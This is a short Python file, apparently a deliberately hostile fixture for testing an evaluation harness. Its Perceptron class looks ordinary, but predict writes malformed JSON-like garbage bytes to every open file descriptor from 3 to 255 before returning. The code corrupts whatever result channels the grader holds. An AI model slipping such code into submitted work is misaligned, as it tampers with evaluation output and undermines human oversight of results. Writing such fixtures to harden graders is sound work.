"""Hostile: it writes garbage to the file descriptors 3 to 255. A report should name an answer that is not a label."""

import os
from contextlib import suppress

import numpy as np


class Perceptron:
    def __init__(self, dimension):
        self.w = np.zeros(dimension)

    def predict(self, x):
        for descriptor in range(3, 256):
            with suppress(OSError):
                os.write(descriptor, b'{"labels": [1, "garbage\x00\xff\n')
        return 1 if self.w @ x > 0 else -1

    def update(self, x, y):
        if self.predict(x) != y:
            self.w += y * x
